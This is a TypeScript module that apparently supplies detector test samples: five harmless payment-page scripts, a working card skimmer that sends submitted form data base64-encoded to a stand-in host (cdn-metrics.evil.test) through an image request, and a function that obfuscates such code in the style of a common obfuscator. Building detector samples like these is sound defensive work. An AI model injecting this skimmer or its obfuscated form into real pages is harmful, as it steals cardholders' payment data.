/** Scripts of the kind payment pages hold, each under 1 kB, plain. */
export const HONEST = [
  `const price = (yen) => '¥' + yen.toLocaleString('ja-JP');
   function total(lines, { tax = 0.1 } = {}) { let sum = 0; for (const { amount, count } of lines) sum += amount * count; return price(sum * (1 + tax)); } export { total };`,
  `(function ($) { 'use strict'; var form = $('#payment'), sent = false;
     form.on('submit', function (event) { if (sent) { event.preventDefault(); return; } sent = true; window.scrollTo(0, 0); });
     $('.zip').on('change', function () { var zip = this.value; $.getJSON('/zip/' + zip, function (found) { for (var key in found) { $('[name=' + key + ']').val(found[key]); } }); });
   })(jQuery);`,
  `class Cart { #lines = []; static key = 'cart'; constructor(store) { this.store = store; }
     add(line) { this.#lines.push(line); outer: for (let i = 0; i < 3; i++) { for (;;) { if (i) continue outer; break; } } return this; }
     async save() { try { await this.store.put(Cart.key, { ...this.#lines, at: Date.now() }); } catch { return false; } finally { this.saved ||= true; } return true; } }
   window.cart = new Cart(window.store);`,
  `var gtag = function () { dataLayer.push(arguments); }; var dataLayer = window.dataLayer || [];
   (function (d, s, id) { var js, first = d.getElementsByTagName(s)[0]; if (d.getElementById(id)) return; js = d.createElement(s); js.id = id; js.async = !0; js.src = 'https://tags.example/t.js?id=' + id; first.parentNode.insertBefore(js, first); })(document, 'script', 'tag-1');`,
  `const luhn = (digits) => { let sum = 0, odd = false; for (let i = digits.length - 1; i >= 0; i--) { let n = +digits[i]; if (odd && (n *= 2) > 9) n -= 9; sum += n; odd = !odd; } return sum % 10 === 0; };
   self.addEventListener('message', ({ data: [kind, value = ''], origin }) => { if (origin !== 'https://pay.test') return; switch (kind) { case 'check': self.postMessage(luhn(value)); break; default: throw new Error(\`unknown \${kind}\`); } });`,
];

/** A skimmer in the plain: reads the card at submit, sends it as an image. */
export const SKIMMER = `document.addEventListener('submit', function () {
  var fields = document.querySelectorAll('input, select'), seen = {};
  for (var i = 0; i < fields.length; i++) seen[fields[i].name] = fields[i].value;
  if (seen.card_number) new Image().src = 'https://cdn-metrics.evil.test/p.gif?d=' + btoa(JSON.stringify(seen));
});`;

/**
 * Hides the texts and property names of a script in a list that is turned round before it is read and whose entries
 * stand backwards: the way of the commonest obfuscator.
 */
export function disguised(code: string): string {
  const texts = [
    ...new Set([...code.matchAll(/'([^']+)'|\.([a-zA-Z]\w+)/g)].map(([, text, name]) => text ?? name ?? '')),
  ];
  const first = 0x64;
  const number = (text: string) => `_0xb2(0x${(first + texts.indexOf(text)).toString(16)})`;
  const body = code.replace(/'([^']+)'|\.([a-zA-Z]\w+)/g, (_, text?: string, name?: string) =>
    text === undefined ? `[${number(name ?? '')}]` : number(text),
  );
  const check = '7042';
  const all = [...texts, check].map((text) => text.split('').toReversed().join(''));
  const turned = [...all.slice(-2), ...all.slice(0, -2)];
  return `function _0xa1(){var _0xc3=${JSON.stringify(turned)};_0xa1=function(){return _0xc3;};return _0xa1();}
function _0xb2(_0xd4,_0xe5){_0xd4=_0xd4-0x${first.toString(16)};var _0xf6=_0xa1();var _0x17=_0xf6[_0xd4];return _0x17['split']('')['reverse']()['join']('');}
(function(_0x28,_0x39){var _0x4a=_0x28();while(!![]){try{var _0x5b=parseInt(_0xb2(0x${(first + texts.length).toString(16)}))/0x1;if(_0x5b===_0x39)break;else _0x4a['push'](_0x4a['shift']());}catch(_0x6c){_0x4a['push'](_0x4a['shift']());}}}(_0xa1,${check}));
${body.replace(/\b(fields|seen|i)\b/g, (name) => `_0x${Buffer.from(name).toString('hex')}`)}`;
}
